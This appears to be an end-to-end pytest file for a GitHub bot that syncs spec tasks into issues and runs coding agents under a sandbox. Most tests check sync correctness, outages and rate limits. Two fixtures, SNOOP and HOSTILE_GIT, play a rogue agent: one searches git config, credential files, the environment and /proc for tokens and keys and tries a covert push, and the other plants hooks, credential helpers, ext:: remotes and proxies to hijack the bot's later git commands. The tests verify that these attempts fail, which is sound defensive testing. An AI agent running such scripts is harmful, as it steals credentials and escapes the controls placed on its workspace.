"""The promise under real conditions: every task becomes exactly one issue, every
delivery is handled, and agents work without holding the keys."""

from __future__ import annotations

import base64
import socket
import threading
from pathlib import Path

import pytest
import requests

from tests.e2e.conftest import StartStack
from tests.e2e.harness import Stack, wait_until
from tests.support import FIXTURES, webhook_headers

pytestmark = pytest.mark.e2e

REPO = "acme/rocket"
CONFIG = "project:\n  owner: acme\n  number: 1\n"


def _spec(count: int, title: str = "Task", first: int = 1) -> str:
    lines = ["id: big", "title: Big", "phase: tasks", "tasks:"]
    for n in range(first, first + count):
        depends = f", depends_on: [T-{n - 1}]" if n % 5 and n > first else ""
        lines.append(f"  - {{id: T-{n}, title: {title} {n}{depends}}}")
    return "\n".join(lines) + "\n"


def _tickets(stack: Stack) -> dict[str, list[dict]]:  # type: ignore[type-arg]
    by_key: dict[str, list[dict]] = {}  # type: ignore[type-arg]
    for issue in stack.issues(REPO):
        if issue["title"].startswith("T-"):
            by_key.setdefault(issue["title"].split(":")[0], []).append(issue)
    return by_key


def test_an_edit_pushed_mid_sync_ends_with_one_issue_per_task(start_stack: StartStack) -> None:
    """Two deliveries for one spec at once, at GitHub's pace of a write a second."""
    stack = start_stack(GITHUB_WRITE_INTERVAL="1")
    stack.create_repo({"README.md": "rocket\n", ".github/specbridge.yml": CONFIG})
    stack.commit(REPO, {"specs/big.yaml": _spec(40)})
    wait_until(lambda: 0 < len(_tickets(stack)) < 40, 60, "the first sync under way")

    stack.commit(REPO, {"specs/big.yaml": _spec(45, title="Renamed")})
    stack.settle(timeout=180)

    tickets = _tickets(stack)
    assert sorted(tickets) == sorted(f"T-{n}" for n in range(1, 46))
    assert all(len(issues) == 1 for issues in tickets.values())
    assert {issues[0]["title"] for issues in tickets.values()} == {
        f"T-{n}: Renamed {n}" for n in range(1, 46)
    }
    assert stack.mismatches() == []


def test_a_push_while_redis_is_down_is_processed_after_it_restarts(
    start_stack: StartStack,
) -> None:
    stack = start_stack(own_redis=True, SPECBRIDGE_HEARTBEAT_SECONDS="1")
    stack.create_repo({"README.md": "rocket\n"})
    stack.kill("redis")

    push = stack.commit(REPO, {"specs/big.yaml": _spec(3)})
    stack.admin("POST", "wait")
    [sent] = [d for d in stack.admin("GET", "deliveries") if d["id"] == push["delivery_id"]]
    assert sent["status"] == 202  # stored, so acknowledged, though it could not be queued

    stack.start_redis()
    stack.settle(timeout=120)
    assert sorted(_tickets(stack)) == ["T-1", "T-2", "T-3"]
    sent_again = [d for d in stack.admin("GET", "deliveries") if d["id"] == push["delivery_id"]]
    assert len(sent_again) == 1  # nobody pressed Redeliver


# What a token or a key looks like, written so this script's own text does not match.
SNOOP = r"""
printf '%s\n' "ghs""_" "PRIVATE"" KEY" "GITHUB""_" > "$HOME/patterns"
{
  grep -l -f "$HOME/patterns" .git/config "$HOME/.git-credentials" "$HOME/.gitconfig"
  env | grep -f "$HOME/patterns"
  for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do grep -l -f "$HOME/patterns" "$f"; done
} > found.txt 2>/dev/null
git push origin HEAD:refs/heads/sneaky > push.txt 2>&1
echo "exit=$?" >> push.txt
"""


def test_an_agent_finds_no_credential_and_cannot_push(
    start_stack: StartStack, tmp_path: Path, workspaces: Path
) -> None:
    profiles = tmp_path / "agents.yaml"
    profiles.write_text(f"default:\n  command: |\n{_indent(SNOOP)}  timeout: 60\n")
    stack = start_stack(SPECBRIDGE_AGENTS=str(profiles), TMPDIR=str(workspaces))
    stack.create_repo({"README.md": "rocket\n"})
    stack.commit(REPO, {"specs/big.yaml": _spec(1)})
    stack.settle()

    [pull] = stack.repo_state(REPO)["pull_requests"]
    branch = pull["head"]["ref"]
    assert pull["draft"] is True
    found, pushed = (_read(stack, name, branch) for name in ("found.txt", "push.txt"))
    assert found == ""  # no token in .git/config, the environment, the home or /proc
    assert "exit=0" not in pushed
    assert "sneaky" not in _branches(stack)


# An agent that writes, into its own `.git` and its tree, every way found to steer
# the git the bot runs after it (issue 29, finding 1): hooks, a hooks path, fsmonitor,
# a clean filter with .gitattributes, gpg, askpass, sshCommand, receivepack, ext::,
# remotes and a proxy pointing at a listener, core.worktree outside, a credential helper.
HOSTILE_GIT = r"""
ran='echo "ran $0" >> MARKER; exit 1'
mkdir -p my-hooks
for hook in post-commit pre-push reference-transaction prepare-commit-msg post-index-change \
            pre-commit commit-msg post-checkout pre-auto-gc; do
  printf '#!/bin/sh\n%s\n' "$ran" > .git/hooks/$hook; chmod +x .git/hooks/$hook
  cp .git/hooks/$hook my-hooks/$hook
done
printf '#!/bin/sh\n%s\n' "$ran" > agent-program; chmod +x agent-program
here=$(pwd)
cat >> .git/config <<CONFIG
[core]
	hooksPath = $here/my-hooks
	fsmonitor = $here/agent-program
	askPass = $here/agent-program
	sshCommand = $here/agent-program
	worktree = /etc
[filter "x"]
	clean = $here/agent-program
	smudge = $here/agent-program
[commit]
	gpgSign = true
[gpg]
	program = $here/agent-program
[protocol]
	allow = always
[remote "origin"]
	url = LISTENER/acme/rocket.git
	pushurl = LISTENER/acme/rocket.git
	receivepack = $here/agent-program
[remote "ext"]
	url = ext::$here/agent-program %S
[http]
	proxy = LISTENER
[credential]
	helper = !$here/agent-program
CONFIG
printf '* filter=x\n' > .gitattributes
printf 'my-hooks/\nagent-program\n' > .gitignore
echo "the agent's work" > work.txt
"""


def test_an_agent_that_rewrites_its_git_steers_nothing_the_bot_runs(
    start_stack: StartStack, tmp_path: Path, workspaces: Path
) -> None:
    """Through the real stack and bubblewrap: no program of the agent's runs after it, no
    request leaves for the address it chose, and only its work is pushed."""
    marker = tmp_path / "marker"
    listener = _Listener()
    script = HOSTILE_GIT.replace("MARKER", str(marker)).replace("LISTENER", listener.url)
    profiles = tmp_path / "agents.yaml"
    profiles.write_text(f"default:\n  command: |\n{_indent(script)}  timeout: 60\n")
    stack = start_stack(SPECBRIDGE_AGENTS=str(profiles), TMPDIR=str(workspaces))
    stack.create_repo({"README.md": "rocket\n"})
    stack.commit(REPO, {"specs/big.yaml": _spec(1)})
    try:
        stack.settle()
    finally:
        listener.close()

    assert not marker.exists(), marker.read_text()
    assert listener.connections == 0
    [pull] = stack.repo_state(REPO)["pull_requests"]
    branch = pull["head"]["ref"]
    assert _read(stack, "work.txt", branch) == "the agent's work\n"
    assert _read(stack, ".gitattributes", branch) == "* filter=x\n"  # committed, as data
    assert _status(stack, "passwd", branch) == 404  # core.worktree=/etc was not the bot's


def test_an_agent_that_changes_only_a_workflow_fails_and_says_why(
    start_stack: StartStack, tmp_path: Path, workspaces: Path
) -> None:
    script = "mkdir -p .github/workflows\necho 'on: push' > .github/workflows/ci.yml\necho Done."
    profiles = tmp_path / "agents.yaml"
    profiles.write_text(f"default:\n  command: |\n{_indent(script)}  timeout: 60\n")
    stack = start_stack(SPECBRIDGE_AGENTS=str(profiles), TMPDIR=str(workspaces))
    stack.create_repo({"README.md": "rocket\n"})
    stack.commit(REPO, {"specs/big.yaml": _spec(1)})
    stack.settle()

    assert stack.repo_state(REPO)["pull_requests"] == []
    [ticket] = _tickets(stack)["T-1"]
    said = [c["body"] for c in stack.comments(REPO, ticket["number"])]
    assert any(
        body.startswith("The agent run failed")
        and "changed only files under `.github/workflows/`" in body
        and "`workflows` permission" in body
        for body in said
    ), said


def test_a_spec_of_120_tasks_stays_within_100_sub_issues_a_parent(
    start_stack: StartStack,
) -> None:
    stack = start_stack(GITHUB_CONTENT_LIMITS="80/6,500/360")
    stack.admin("POST", "limits", time_scale=0.1)
    stack.create_repo({"README.md": "rocket\n", ".github/specbridge.yml": CONFIG})
    stack.commit(REPO, {"specs/big.yaml": _spec(120)})
    stack.settle(timeout=180)

    issues = {i["number"]: i for i in stack.issues(REPO)}
    tracking = next(i for i in issues.values() if i["title"] == "Spec: Big")
    assert all(len(i["sub_issues"]) <= 100 for i in issues.values())
    groups = [issues[n] for n in tracking["sub_issues"]]
    assert [g["title"] for g in groups] == ["Spec: Big (part 1)", "Spec: Big (part 2)"]
    under = [n for g in groups for n in g["sub_issues"]]
    assert sorted(issues[n]["title"].split(":")[0] for n in under) == sorted(
        f"T-{n}" for n in range(1, 121)
    )
    assert len(stack.board(REPO)) == 120
    assert stack.mismatches() == []


@pytest.mark.heavy  # it waits out a 90 s "hour"
def test_a_spec_bigger_than_the_hourly_budget_pauses_and_resumes_by_itself(
    start_stack: StartStack,
) -> None:
    """GitHub's 80 new items a minute and 500 an hour, scaled to 80 in 0.6 s and 100 in
    90 s, for a spec of 150 tasks (a 600-task spec on github.com). The double's own
    limits are scaled further down, so the bot's budget is what stops the sync: its
    first 100 issues take seconds, far less than the 90 s 'hour', and the rest must
    wait for the hour to pass."""
    stack = start_stack(GITHUB_CONTENT_LIMITS="80/0.6,100/90", SPECBRIDGE_HEARTBEAT_SECONDS="1")
    stack.admin("POST", "limits", time_scale=0.001)
    stack.create_repo({"README.md": "rocket\n"})
    stack.commit(REPO, {"specs/big.yaml": _spec(150)})

    def paused() -> str | None:
        tracking = [i for i in stack.issues(REPO) if i["title"] == "Spec: Big"]
        body = tracking[0]["body"] if tracking else ""
        return body if "follow by themselves" in body else None

    note = wait_until(paused, 90, "the sync to pause at the hourly budget")
    assert "issues are open so far" in note
    assert len(_tickets(stack)) < 150
    stack.settle(timeout=240)

    tickets = _tickets(stack)
    assert len(tickets) == 150
    assert all(len(issues) == 1 for issues in tickets.values())
    tracking = next(i for i in stack.issues(REPO) if i["title"] == "Spec: Big")
    assert "follow by themselves" not in tracking["body"]
    assert stack.mismatches() == []


def test_every_published_payload_is_answered_in_time_while_github_does_not_answer(
    start_stack: StartStack,
) -> None:
    """GitHub waits 10 s for an answer. On the embedded defaults the jobs share the
    web process and its SQLite file: a job waiting on GitHub must hold no lock."""
    silent = socket.socket()  # accepts connections, never answers: GitHub unreachable
    silent.bind(("127.0.0.1", 0))
    silent.listen(1000)
    github = f"http://127.0.0.1:{silent.getsockname()[1]}"
    stack = start_stack(embedded=True, GITHUB_API_URL=github)
    payloads = sorted((FIXTURES / "webhooks").glob("*/*.json"))
    assert len(payloads) > 100
    for number, path in enumerate(payloads):
        body = path.read_bytes()
        headers = webhook_headers(path.parent.name, f"published-{number}", body)
        # A delivery not answered within 2 s raises here.
        answer = requests.post(f"{stack.bot}/webhook", data=body, headers=headers, timeout=2)
        assert answer.status_code in (200, 202), (path.name, answer.text)
    silent.close()


def _indent(script: str) -> str:
    return "".join(f"    {line}\n" for line in script.strip().splitlines())


def _read(stack: Stack, path: str, ref: str) -> str:
    answer = requests.get(
        f"{stack.hub}/repos/{REPO}/contents/{path}", params={"ref": ref}, timeout=30
    )
    answer.raise_for_status()
    return base64.b64decode(answer.json()["content"]).decode()


def _status(stack: Stack, path: str, ref: str) -> int:
    url = f"{stack.hub}/repos/{REPO}/contents/{path}"
    return requests.get(url, params={"ref": ref}, timeout=30).status_code


class _Listener:
    """A port on 127.0.0.1 that counts who connects to it."""

    def __init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._server.getsockname()[1]}"
        self.connections = 0
        threading.Thread(target=self._count, daemon=True).start()

    def _count(self) -> None:
        while True:
            try:
                client, _ = self._server.accept()
            except OSError:
                return
            self.connections += 1
            client.close()

    def close(self) -> None:
        self._server.close()


def _branches(stack: Stack) -> str:
    import subprocess

    clone_url = stack.repo_state(REPO)["clone_url"]
    return subprocess.run(
        ["git", "ls-remote", "--heads", clone_url], capture_output=True, text=True, check=True
    ).stdout
